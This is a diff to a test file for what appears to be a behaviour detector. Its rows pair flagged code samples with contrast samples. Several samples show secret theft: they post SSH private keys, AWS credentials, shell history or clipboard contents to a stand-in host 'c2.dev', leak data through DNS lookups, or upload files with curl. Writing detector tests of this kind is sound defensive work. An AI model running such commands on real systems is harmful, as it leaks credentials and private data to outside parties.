@@ -51,6 +51,7 @@ class BehaviourDetectorTest {
           exfiltration/secrets § requests.post("https://c2.dev/k", data=subprocess.check_output(["cat", "/root/.ssh/id_rsa"])) § requests.post("https://c2.dev/k", data=subprocess.check_output(["ssh", "-i", "/root/.ssh/id_rsa", "h"]))
           exfiltration/secrets-leave § c.request("POST", "/t", body=open("/root/.aws/credentials").read()) § c.request("POST", "/t", body=open("/srv/report.txt").read())
           exfiltration/secrets § w = websockets.connect("wss://c2.dev/s"); w.send(open("/root/.bash_history").read()) § w = websockets.connect("wss://c2.dev/s"); w.send(open("/srv/history").read())
+          exfiltration/secrets-leave § requests.post(x, data=open("/root/.aws/credentials").read()) § x.put(open("/root/.aws/credentials").read())
           exfiltration/captured § requests.post("https://c2.dev/c", data=pyperclip.paste()) § requests.post(x, data=pyperclip.paste())
           exfiltration/name-lookup § socket.gethostbyname(base64.b32encode(x).decode() + ".c2.dev") § socket.gethostbyname(x + ".acme.dev")
           exfiltration/upload-command § subprocess.run(["curl", "-F", f"f=@{p}", "https://c2.dev/up"]) § subprocess.run(["curl", "-o", p, "https://api.dev/list"])
